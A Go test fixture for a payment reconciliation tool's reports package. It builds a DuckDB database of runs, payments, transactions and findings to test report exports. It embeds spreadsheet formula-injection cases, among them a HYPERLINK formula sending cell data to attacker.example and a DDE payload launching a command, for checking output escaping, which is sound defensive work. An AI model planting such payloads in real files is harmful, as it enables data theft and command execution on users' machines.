package reports

import (
	"database/sql"
	"path/filepath"
	"testing"
	"time"

	_ "github.com/duckdb/duckdb-go/v2"

	"github.com/reconcile/reconcile/queries"
	"github.com/reconcile/reconcile/store"
)

// Injection cases: text from the platform or a merchant that a spreadsheet
// would take for a formula if it were written as one.
const (
	evilGroupName = `=HYPERLINK("http://attacker.example/?"&A1,"Click")`
	evilEntity    = `+1-1`
	evilError     = "@SUM(1+1)*cmd|' /C calc'!A0"
	evilDetail    = `{"note":"-2+3","tab":"\t=1","cr":"\r=1"}`
)

// fixtureRun is the run the fixture database holds: 2026-11-20, compared
// with 2026-11-19, partial (one member failed).
var fixtureRun = Run{
	RunID:        "2026-11-20",
	BusinessDate: time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC),
	Window: store.Window{
		Start: time.Date(2026, 11, 17, 0, 0, 0, 0, time.UTC),
		End:   time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC),
	},
	StartedAt:  time.Date(2026, 11, 21, 2, 0, 0, 0, time.UTC),
	FinishedAt: time.Date(2026, 11, 21, 2, 3, 4, 0, time.UTC),
	Status:     "partial",
	Members:    map[string]int{"ok": 3, "failed": 1},
	Version:    "test",
	Source:     SourcePlatform,
	// Checked alarms: two raised (the Summary lists them), one clear.
	Alarms: []Alarm{
		{Name: "members_lost", Raised: true, Value: 1, Message: "1 member reconciled by 2026-11-19 is missing or failed today: m4 (failed)"},
		{Name: "kind_count", Kind: "skipped_cycle", Value: 2, Limit: 10, Message: "2 findings, at most 10 allowed"},
		{Name: "kind_amount", Kind: "subscription_suspended", Currency: "CHF", Raised: true, Value: 1234567.89, Limit: 1000,
			Message: "CHF 1,234,567.89 in findings, above the limit of CHF 1,000.00"},
	},
}

// fixtureDB is a real DuckDB file with the product's schema and a small,
// fixed run: two groups sharing member m2, four currencies, findings in
// every state, a failed member, and the injection cases above.
func fixtureDB(t testing.TB) *sql.DB {
	t.Helper()
	db, err := sql.Open("duckdb", filepath.Join(t.TempDir(), "fixture.duckdb"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	db.SetMaxOpenConns(1) // the schema sets TimeZone per connection
	stmts := []string{queries.Schema(),
		`INSERT INTO groups (group_id, organization_id, name, run_id, loaded_at) VALUES
			('1001', 'org', 'Region 1', '2026-11-20', TIMESTAMPTZ '2026-11-21 02:00:00+00'),
			('1002', 'org', ` + sqlString(evilGroupName) + `, '2026-11-20', TIMESTAMPTZ '2026-11-21 02:00:00+00')`,
		`INSERT INTO group_members VALUES
			('1001', 'm1', '2026-11-20'), ('1001', 'm2', '2026-11-20'),
			('1002', 'm2', '2026-11-20'), ('1002', 'm3', '2026-11-20'), ('1002', 'm4', '2026-11-20'),
			('1003', 'm1', '2026-11-01')`, // an old listing of a group this run was not asked for
		`INSERT INTO runs (run_id, business_date, shard, window_start, window_end, started_at, finished_at, status, attempts,
			members_total, members_ok, members_failed, members_skipped, requests, retries, findings, error, version, previous_run) VALUES
			('2026-11-19', DATE '2026-11-19', '0/1', TIMESTAMPTZ '2026-11-16 00:00:00+00', TIMESTAMPTZ '2026-11-20 00:00:00+00',
			 TIMESTAMPTZ '2026-11-20 02:00:00+00', TIMESTAMPTZ '2026-11-20 02:02:00+00', 'ok', 1, 4, 4, 0, 0, 100, 0, 3, NULL, 'test', NULL),
			('2026-11-20', DATE '2026-11-20', '0/1', TIMESTAMPTZ '2026-11-17 00:00:00+00', TIMESTAMPTZ '2026-11-21 00:00:00+00',
			 TIMESTAMPTZ '2026-11-21 02:00:00+00', TIMESTAMPTZ '2026-11-21 02:03:04+00', 'partial', 1, 4, 3, 1, 0, 120, 2, 6,
			 '1 problem(s); first: look up BIN 411111: 503', 'test', '2026-11-19')`,
		`INSERT INTO run_members (run_id, merchant_id, status, error) VALUES
			('2026-11-20', 'm1', 'ok', NULL), ('2026-11-20', 'm2', 'ok', NULL), ('2026-11-20', 'm3', 'ok', NULL),
			('2026-11-20', 'm4', 'failed', ` + sqlString(evilError) + `)`,
		`INSERT INTO subscription_payments (merchant_id, payment_id, subscription_id, status, payment_date, billing_amount,
			setup_fee, surcharge_amount, currency, run_id, loaded_at) VALUES
			('m1', 'p1', 's1', 'PAID', TIMESTAMPTZ '2026-11-18 10:00:00+00', 100.00, 5.00, NULL, 'USD', 'r', now()),
			('m1', 'p2', 's1', 'PAID', TIMESTAMPTZ '2026-11-19 10:00:00+00', 1234.50, NULL, 0.25, 'USD', 'r', now()),
			('m2', 'p3', 's2', 'PAID', TIMESTAMPTZ '2026-11-20 10:00:00+00', 99.99, NULL, NULL, 'EUR', 'r', now()),
			('m3', 'p4', 's3', 'PAID', TIMESTAMPTZ '2026-11-20 11:00:00+00', 1500, NULL, NULL, 'JPY', 'r', now()),
			('m3', 'p5', 's3', 'FAILED', TIMESTAMPTZ '2026-11-19 11:00:00+00', 1500, NULL, NULL, 'JPY', 'r', now()),
			('m3', 'p6', 's3', 'SCHEDULED', TIMESTAMPTZ '2026-12-20 11:00:00+00', 1500, NULL, NULL, 'JPY', 'r', now()),
			('m4', 'p7', 's4', 'PAID', TIMESTAMPTZ '2026-11-20 11:00:00+00', 50, NULL, NULL, 'GBP', 'r', now())`,
		`INSERT INTO bin_attributes (bin, lookup_status, funding_source, looked_up_at) VALUES
			('411111', 'COMPLETED', 'CREDIT', now()), ('522222', 'COMPLETED', 'DEBIT', now()), ('600000', 'NO MATCH', NULL, now())`,
		`INSERT INTO transactions (merchant_id, transaction_id, submit_time, amount, currency, card_bin, run_id, loaded_at) VALUES
			('m1', 't1', TIMESTAMPTZ '2026-11-18 10:00:01+00', 105.00, 'USD', '411111', 'r', now()),
			('m1', 't2', TIMESTAMPTZ '2026-11-19 10:00:01+00', 1234.75, 'USD', '411111', 'r', now()),
			('m2', 't3', TIMESTAMPTZ '2026-11-20 10:00:01+00', 99.99, 'EUR', '522222', 'r', now()),
			('m3', 't4', TIMESTAMPTZ '2026-11-20 11:00:01+00', 1500, 'JPY', '600000', 'r', now()),
			('m3', 't5', TIMESTAMPTZ '2026-11-10 11:00:01+00', 1, 'JPY', '411111', 'r', now())`,
		`INSERT INTO findings (run_id, business_date, kind, merchant_id, entity_id, group_id, amount, currency, detail, first_seen_run, state) VALUES
			('2026-11-20', DATE '2026-11-20', 'skipped_cycle', 'm1', 'p9', '1001', 12.34, 'USD', '{"billing_cycle":3}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'skipped_cycle', 'm2', ` + sqlString(evilEntity) + `, '1001', 7.50, 'EUR', ` + sqlString(evilDetail) + `, '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'amount_mismatch', 'm3', 'p4', '1002', 1500, 'JPY', '{"difference":-1}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'subscription_suspended', 'm2', 's2', '1001', 1234567.89, 'CHF', '{}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'bin_unresolved', 'm3', '600000', '1002', NULL, NULL, '{"lookup_status":"NO MATCH"}', '2026-11-20', 'new'),
			('2026-11-20', DATE '2026-11-20', 'subscription_delinquent', 'm3', 's3', '1002', 15, 'GBP', '{}', '2026-11-19', 'open'),
			('2026-11-20', DATE '2026-11-20', 'subscription_delinquent', 'm1', 's7', '1001', 20, 'USD', '{}', '2026-11-19', 'resolved'),
			('2026-11-19', DATE '2026-11-19', 'subscription_delinquent', 'm1', 's7', '1001', 20, 'USD', '{}', '2026-11-19', 'new')`,
		// The payments audit: an interchange estimate, a wallet payment, a terminal.
		`INSERT INTO interchange_rates VALUES ('VISA', 0.005, 0.009, 'default', now()), ('*', 0.004, 0.0075, 'default', now())`,
		`INSERT INTO interchange_at_risk VALUES ('2026-11-20', 'm1', 'VISA', 'USD', 2, 1, 1, 300.00, 0.005, 0.009, 1.90),
			('2026-11-20', 'm3', 'DISCOVER', 'JPY', 1, 1, 0, 1500, 0.004, 0.0075, 11)`,
		`UPDATE transactions SET payment_solution = '001', r_code = '1', application_names = 'ics_auth,ics_bill' WHERE transaction_id = 't3'`,
		`INSERT INTO journal (merchant_id, file, line, time, status, call_kind, transaction_id, amount, currency, response_status,
			terminal_id, file_sha256, imported_at) VALUES
			('m1', 'j', 1, TIMESTAMPTZ '2026-11-19 09:00:00+00', 201, 'sale', 't2', 1234.75, 'USD', 'AUTHORIZED', 'TRM-A', 's', now()),
			('m1', 'j', 2, TIMESTAMPTZ '2026-11-19 09:30:00+00', 201, 'sale', 'tx', 5.00, 'USD', 'DECLINED', 'TRM-A', 's', now())`,
	}
	for _, s := range stmts {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("fixture: %v\n%s", err, s)
		}
	}
	return db
}
